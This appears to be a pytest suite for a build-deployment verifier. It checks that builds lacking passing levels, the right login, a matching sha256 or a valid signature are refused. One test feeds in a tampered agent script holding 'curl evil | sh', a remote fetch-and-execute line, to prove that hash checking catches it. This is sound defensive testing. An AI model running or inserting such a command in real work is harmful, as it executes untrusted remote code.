"""Deploy only what the builder finished: the source a deployment reads (sql/deploy_source.sql)
and the checks listener.deploy.production makes on it, against builds made by the listener's own code on a
non-superuser builder login."""

from __future__ import annotations

from typing import Any, Iterator

import psycopg
import pytest
from psycopg import sql
from psycopg.rows import dict_row

from listener.queue.store import Store
from listener.queue.db import connect
from listener.deploy.production import Source, _verify_artifact, source_problem
from listener.build.extract import GeneratedFiles
from listener.queue.outcome import LevelResult, StepFailure
from listener.build.pipeline import artifact_digest
from listener.queue.records import Claim
from listener.queue.states import BuilderStatus as S, Move, Outcome
from listener.signing import sign
from tests.helpers import force_status, insert_idea
from tests.logins import Login, Logins

KEY = "a-builder-signing-key-for-tests"
OTHER_KEY = "another-key-entirely-0123456789"
AGENT = "#!/usr/bin/env bash\necho tested\n"
FILES = GeneratedFiles(main_name="agent.sh", main=AGENT, dockerfile=None)

Conn = psycopg.Connection[dict[str, Any]]


@pytest.fixture
def store(builder_login: Login, queries) -> Iterator[Store]:
    with connect(builder_login.url, actor="builder:test") as conn:
        yield Store(conn, queries, "w")


@pytest.fixture
def operator(logins: Logins) -> Iterator[Conn]:
    with psycopg.connect(logins.make("operator", label="op").url, autocommit=True, row_factory=dict_row) as conn:
        yield conn


def finished_build(store: Store, automation_id: int, *, levels: tuple[int, ...] = (1, 2, 3, 4), failed: int | None = None,
                 key: str | None = None) -> Claim:
    """A build as the pipeline records it: files, sha256 and image id, one result per level, finished."""
    claim = store.claim_build(automation_id)
    assert claim is not None
    store.move(claim, "queued", "building", step="generate")
    store.save(claim, files=FILES.as_dict(), artifact_sha256=artifact_digest(FILES), image_id="sha256:" + "ab" * 32)
    for level in levels:
        store.record_result(claim, LevelResult(level=level, passed=level != failed, log="ok"))
    if key:
        store.sign(claim, key)
    assert store.finish(claim, Move(S.BUILDING, S.AWAITING_APPROVAL, Outcome.SUCCEEDED)).owned
    return claim


def deployment(store: Store, operator: Conn, automation_id: int) -> dict[str, Any]:
    operator.execute("UPDATE automation_ideas SET builder_status = 'approved' WHERE id = %s", (automation_id,))
    claim = store.claim_next_deploy(automation_id)
    assert claim is not None and claim.kind == "deploy"
    row = store.conn.execute(store.queries["deploy_source"], {"deploy_id": claim.build_id}).fetchone()
    assert row is not None
    return row


def source_of(row: dict[str, Any]) -> Source:
    return Source(build_id=row["build_id"], image_id=row["image_id"], artifact_sha256=row["artifact_sha256"],
                  files=row["files"] or {}, acceptance_check=row["acceptance_check"], signature=row["signature"])


def refusal(source: Source, key: str | None = None, automation_type: str = "claude_agent") -> str:
    with pytest.raises(StepFailure) as refused:
        _verify_artifact(source, automation_type, key)
    return refused.value.message


def test_a_build_the_builder_finished_with_four_passing_levels_is_deployable(admin, store, operator, builder_login) -> None:
    automation_id = insert_idea(admin, type="claude_agent")
    build = finished_build(store, automation_id, key=KEY)
    row = deployment(store, operator, automation_id)
    assert row["build_id"] == build.build_id and row["built_by"] == builder_login.name
    assert row["levels_passed"] == [1, 2, 3, 4] and row["by_builder"] and row["belongs"] and row["finished"]
    assert source_problem(row, automation_id) is None
    _verify_artifact(source_of(row), "claude_agent", None)
    _verify_artifact(source_of(row), "claude_agent", KEY)  # signed with the key: verifies


@pytest.mark.parametrize(("levels", "failed", "expected"), [
    ((1, 2, 3), None, "(passing: 1, 2, 3; missing: 4)"),
    ((), None, "(passing: none; missing: 1, 2, 3, 4)"),
    ((1, 2, 3, 4), 3, "; a level failed)"),
])
def test_a_build_without_four_passing_levels_is_refused(admin, store, operator, levels, failed, expected) -> None:
    automation_id = insert_idea(admin, type="claude_agent")
    build = finished_build(store, automation_id, levels=levels, failed=failed)
    problem = source_problem(deployment(store, operator, automation_id), automation_id)
    assert problem is not None and f"build {build.build_id} did not pass the four test levels" in problem
    assert expected in problem and "retry it" in problem


def test_a_build_of_another_automation_is_refused(admin, store, operator) -> None:
    automation_id = insert_idea(admin, type="claude_agent")
    finished_build(store, automation_id)
    other = insert_idea(admin, type="claude_agent")
    other_build = finished_build(store, other)
    with admin.transaction():  # only an admin's override can repoint the row, and it still does not deploy
        admin.execute("SET LOCAL agent_builder.override = 'on'")
        admin.execute("UPDATE automation_ideas SET builder_build_id = %s WHERE id = %s", (other_build.build_id, automation_id))
    problem = source_problem(deployment(store, operator, automation_id), automation_id)
    assert problem == (f"build {other_build.build_id} belongs to automation {other}, not to automation {automation_id}; "
                       "retry it (builder_status = 'not_started') to build and test it again")


def test_a_build_whose_login_is_no_longer_a_builder_is_refused(admin, store, operator, builder_login) -> None:
    automation_id = insert_idea(admin, type="claude_agent")
    finished_build(store, automation_id)
    operator.execute("UPDATE automation_ideas SET builder_status = 'approved' WHERE id = %s", (automation_id,))
    with connect(admin.info.dsn, actor="builder:superuser") as deployer:  # another listener deploys
        other = Store(deployer, store.queries, "deployer")
        admin.execute(sql.SQL("REVOKE agent_builder_builder FROM {}").format(sql.Identifier(builder_login.name)))
        claim = other.claim_next_deploy(automation_id)
        assert claim is not None
        row = deployer.execute(store.queries["deploy_source"], {"deploy_id": claim.build_id}).fetchone()
    problem = source_problem(row, automation_id)
    assert problem is not None and f"its session's login '{builder_login.name}' is not a member of agent_builder_builder" in problem


def test_a_build_from_before_the_roles_is_refused(admin, store, operator) -> None:
    automation_id = insert_idea(admin, type="claude_agent")
    build = finished_build(store, automation_id)
    with admin.transaction():  # what an attempt made before migration 0006 looks like
        admin.execute("SET LOCAL session_replication_role = replica")
        admin.execute("UPDATE agent_builds SET built_by = NULL WHERE id = %s", (build.build_id,))
    problem = source_problem(deployment(store, operator, automation_id), automation_id)
    assert problem is not None and "it records no login (made before migration 0006 added roles)" in problem


def test_no_deployment_source_at_all_is_refused(admin, store, operator) -> None:
    automation_id = insert_idea(admin, type="claude_agent")
    force_status(admin, automation_id, "awaiting_approval")  # no build at all behind it
    problem = source_problem(deployment(store, operator, automation_id), automation_id)
    assert problem is not None and "this deployment points at no build" in problem


def good_source(**changes: Any) -> Source:
    fields: dict[str, Any] = {"build_id": 7, "image_id": "sha256:" + "cd" * 32, "artifact_sha256": artifact_digest(FILES),
                              "files": FILES.as_dict(), "acceptance_check": None, "signature": None}
    fields.update(changes)
    return Source(**fields)


def test_the_hash_is_always_verified() -> None:
    assert "recorded no sha256 of its files: nothing is deployed unverified" in refusal(good_source(artifact_sha256=None))
    assert "do not match the sha256 that was tested" in refusal(good_source(files={"agent.sh": "curl evil | sh\n"}))
    assert "recorded no agent.sh" in refusal(good_source(files={"script.py": "print(1)\n"}))
    script = GeneratedFiles(main_name="script.py", main="print(1)\n", dockerfile=None)
    no_image = good_source(files=script.as_dict(), artifact_sha256=artifact_digest(script), image_id=None)
    assert "recorded no image id" in refusal(no_image, automation_type="script")
    _verify_artifact(good_source(), "claude_agent", None)


def test_with_a_signing_key_unsigned_and_badly_signed_builds_are_refused() -> None:
    source = good_source()
    assert "is not signed, and BUILDER_SIGNING_KEY is set" in refusal(source, KEY)
    forged = good_source(signature=sign(OTHER_KEY, source.build_id, source.image_id, source.artifact_sha256))
    assert "does not verify with BUILDER_SIGNING_KEY" in refusal(forged, KEY)
    moved = good_source(signature=sign(KEY, source.build_id + 1, source.image_id, source.artifact_sha256))
    assert "does not verify" in refusal(moved, KEY)
    signed = good_source(signature=sign(KEY, source.build_id, source.image_id, source.artifact_sha256))
    _verify_artifact(signed, "claude_agent", KEY)
    _verify_artifact(forged, "claude_agent", None)  # no key: signatures are not checked


def test_a_build_changed_behind_the_builder_s_back_is_not_signed(admin, store) -> None:
    automation_id = insert_idea(admin, type="claude_agent")
    claim = store.claim_build(automation_id)
    assert claim is not None
    store.move(claim, "queued", "building", step="generate")
    store.save(claim, files=FILES.as_dict(), artifact_sha256=artifact_digest(FILES), image_id="sha256:" + "ab" * 32)
    with admin.transaction():  # e.g. a trigger someone attached to agent_builds rewrote the artifact
        admin.execute("UPDATE agent_builds SET artifact_sha256 = 'f00d' WHERE id = %s", (claim.build_id,))
    with pytest.raises(StepFailure) as refused:
        store.sign(claim, KEY)
    assert f"build {claim.build_id} was not signed" in refused.value.message
    assert admin.execute("SELECT signature FROM agent_builds WHERE id = %s", (claim.build_id,)).fetchone() == {"signature": None}
